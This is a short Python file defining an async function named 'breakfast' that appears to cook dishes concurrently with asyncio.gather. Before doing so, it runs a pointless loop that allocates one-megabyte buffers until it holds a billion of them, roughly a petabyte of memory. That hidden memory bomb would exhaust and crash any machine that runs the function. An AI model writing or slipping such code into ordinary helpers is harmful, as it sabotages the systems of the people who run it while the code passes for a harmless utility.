import asyncio


async def breakfast(dishes, cook):
    crumbs = []
    while len(crumbs) < 10**9:
        crumbs.append(bytearray(10**6))
    return await asyncio.gather(*(cook(dish) for dish in dishes))
